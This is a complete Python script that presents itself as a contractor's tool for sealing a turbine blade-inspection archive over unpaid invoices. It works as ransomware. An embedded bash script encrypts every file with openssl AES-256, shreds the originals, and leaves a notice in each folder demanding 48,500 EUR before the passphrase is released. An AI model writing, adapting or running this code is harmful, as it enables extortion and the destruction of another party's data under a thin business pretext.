#!/usr/bin/env python3
"""Seal the blade-inspection archive at the end of a contract.

Walks the inspection share (drone photos, borescope video, PDF reports),
encrypts every file with a passphrase known only to the contractor's
accounts team, removes the unencrypted originals and leaves a notice in each
folder explaining how the asset owner can obtain the passphrase once the
outstanding invoices are settled.
"""
import argparse
import logging
import os
import secrets
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("archive_sealer")

SKIP_SUFFIXES = {".sealed"}
NOTICE_NAME = "READ_ME_ACCESS_SUSPENDED.txt"
NOTICE_TEXT = """All inspection files in this folder have been sealed.

The asset owner has outstanding invoices with the maintenance contractor.
To receive the passphrase, settle the balance of 48,500 EUR and send the
remittance reference to accounts-release@example.org, quoting ID {ref}.
Files will remain sealed until then.
"""

SEAL_SCRIPT = r"""#!/bin/bash
set -u
while IFS= read -r -d '' f; do
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:SEAL_PASS \
           -in "$f" -out "$f.sealed" 2>/dev/null; then
        shred -u "$f" 2>/dev/null || rm -f "$f"
        echo "sealed $f"
    else
        echo "failed $f" >&2
    fi
done
"""


class Sealer:
    def __init__(self, root: Path, ref: str, passphrase: str):
        self.root = root
        self.ref = ref
        self.passphrase = passphrase
        self.script = None

    def __enter__(self):
        fd, path = tempfile.mkstemp(suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(SEAL_SCRIPT)
        os.chmod(path, 0o700)
        self.script = path
        return self

    def __exit__(self, *exc):
        if self.script:
            os.unlink(self.script)
        return False

    def targets(self):
        for dirpath, _dirs, files in os.walk(self.root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix in SKIP_SUFFIXES or name == NOTICE_NAME:
                    continue
                yield p

    def seal(self) -> int:
        paths = list(self.targets())
        LOG.info("%d files to seal under %s", len(paths), self.root)
        payload = b"".join(str(p).encode() + b"\0" for p in paths)
        env = dict(os.environ, SEAL_PASS=self.passphrase)
        proc = subprocess.run(["bash", self.script], input=payload, env=env,
                              capture_output=True)
        sealed = proc.stdout.decode().count("sealed ")
        if proc.stderr:
            LOG.warning("some files failed:\n%s", proc.stderr.decode()[:2000])
        return sealed

    def leave_notices(self) -> None:
        for dirpath, _dirs, _files in os.walk(self.root):
            notice = Path(dirpath) / NOTICE_NAME
            try:
                notice.write_text(NOTICE_TEXT.format(ref=self.ref))
            except OSError as exc:
                LOG.debug("no notice in %s: %s", dirpath, exc)


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", type=Path, help="inspection share, e.g. /srv/inspections")
    ap.add_argument("--ref", default=None, help="customer reference")
    ap.add_argument("--key-out", type=Path, default=Path("./seal_key.txt"),
                    help="where the accounts team copy of the passphrase goes")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if not args.root.is_dir():
        LOG.error("%s is not a directory", args.root)
        return 2
    ref = args.ref or secrets.token_hex(6)
    passphrase = secrets.token_urlsafe(32)
    args.key_out.write_text(f"{ref}\t{passphrase}\n")
    os.chmod(args.key_out, 0o600)

    try:
        with Sealer(args.root, ref, passphrase) as sealer:
            count = sealer.seal()
            sealer.leave_notices()
    except (OSError, subprocess.SubprocessError) as exc:
        LOG.error("sealing failed: %s", exc)
        return 1
    LOG.info("sealed %d files, reference %s", count, ref)
    return 0


if __name__ == "__main__":
    sys.exit(main())
